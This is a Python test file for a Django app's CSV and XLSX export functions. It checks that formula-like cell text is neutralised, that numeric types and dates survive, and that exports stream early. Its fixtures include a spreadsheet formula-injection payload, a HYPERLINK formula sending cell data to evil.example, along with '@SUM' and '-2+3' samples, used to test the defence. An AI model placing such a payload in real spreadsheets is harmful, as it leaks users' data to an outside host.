"""CSV and XLSX responses of the one export module (issue 10, item 1), read back as a
spreadsheet program would read them."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

from django.http import StreamingHttpResponse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from kbridge.core.exports import csv_response, xlsx_response
from kbridge.engine.tabular import neutralise
from tests.engine.test_tabular import ANY_TEXT

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def _sheet(rows):
    response = xlsx_response(rows, filename="t.xlsx", sheet_title="t")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response["Content-Disposition"] == 'attachment; filename="t.xlsx"'
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def test_xlsx_writes_formula_like_text_as_text_and_numbers_as_numbers():
    sheet = _sheet([["name", "amount"],
                    [HYPERLINK, -1], ["-2+3", -1500.5], ["뉴로칩스", Decimal("2.50")],
                    ["@SUM(A1)", 12345678901234567890],
                    [date(2026, 6, 10), datetime(2026, 6, 10, 9, 30)]])
    names = [sheet.cell(row=r, column=1) for r in range(2, 6)]
    assert [(c.data_type, c.value) for c in names] == [
        ("s", "'" + HYPERLINK), ("s", "'-2+3"), ("s", "뉴로칩스"), ("s", "'@SUM(A1)")]
    amounts = [sheet.cell(row=r, column=2) for r in range(2, 6)]
    assert [(c.data_type, c.value) for c in amounts[:3]] == [
        ("n", -1), ("n", -1500.5), ("n", 2.5)]
    # beyond 15 digits Excel would round the number: kept as its exact digits
    assert (amounts[3].data_type, amounts[3].value) == ("s", "12345678901234567890")
    assert sheet.cell(row=6, column=1).value == datetime(2026, 6, 10)
    assert sheet.cell(row=6, column=2).value == datetime(2026, 6, 10, 9, 30)


def test_xlsx_never_fails_on_characters_a_workbook_cannot_hold():
    sheet = _sheet([["뉴로\x0b칩스", "x\ud800y", "a\ufffeb\x00", "\ud83d\ude00", "a\r\nb"]])
    assert [c.value for c in sheet[1]] == ["뉴로칩스", "x\ufffdy", "ab", "\U0001F600", "a\nb"]


@settings(max_examples=40, deadline=None)
@given(st.lists(ANY_TEXT, min_size=1, max_size=8))
def test_any_text_reads_back_from_xlsx_as_the_neutralised_text(texts):
    sheet = _sheet([texts])
    for text, read in zip(texts, next(sheet.iter_rows(min_row=1, max_row=1)), strict=False):
        expected = neutralise(text)
        if expected == "":
            assert read.value is None
            continue
        assert read.data_type == "s"
        assert unescape(read.value) == expected


def test_csv_response_streams_utf8_with_bom():
    response = csv_response(iter([["id", "name"], [1, HYPERLINK], [2, "뉴로칩스"]]),
                            filename="신청 목록.csv")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%EC%8B%A0%EC%B2%AD%20%EB%AA%A9%EB%A1%9D.csv")
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows == [["id", "name"], ["1", "'" + HYPERLINK], ["2", "뉴로칩스"]]


def test_xlsx_streams_its_first_bytes_before_the_rows_are_read():
    """The first chunk leaves before the caller's iterator has given up a single data row,
    so a 10,000-row export starts downloading at once (issue 10, item 7)."""
    read = []

    def rows():
        yield ["id", "name"]
        for i in range(1000):
            read.append(i)
            yield [i, f"기업 {i}"]

    response = xlsx_response(rows(), filename="t.xlsx", sheet_title="t")
    assert isinstance(response, StreamingHttpResponse)
    chunks = iter(response.streaming_content)
    first = next(chunks)
    assert first.startswith(b"PK") and read == []
    data = first + b"".join(chunks)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.max_row == 1001 and sheet.cell(row=1001, column=2).value == "기업 999"


def test_xlsx_keeps_text_that_looks_like_an_escaped_character():
    """SpreadsheetML reads ``_xHHHH_`` in text as the character U+HHHH (ECMA-376 Part 1,
    22.9.2.19 ST_Xstring), so Excel would show "_x0041_" as "A": the underscore is escaped
    as ``_x005F_``, as XlsxWriter does. openpyxl does not decode; ``unescape`` does what
    Excel does."""
    sheet = _sheet([["_x0041_", "a_x000D_b", "x & <y> \"z\""], [True, False, None]])
    assert [c.value for c in sheet[1]] == ["_x005F_x0041_", "a_x005F_x000D_b",
                                           "x & <y> \"z\""]
    assert [unescape(c.value) for c in sheet[1]] == ["_x0041_", "a_x000D_b", "x & <y> \"z\""]
    assert [c.value for c in sheet[2]][:2] == [True, False]
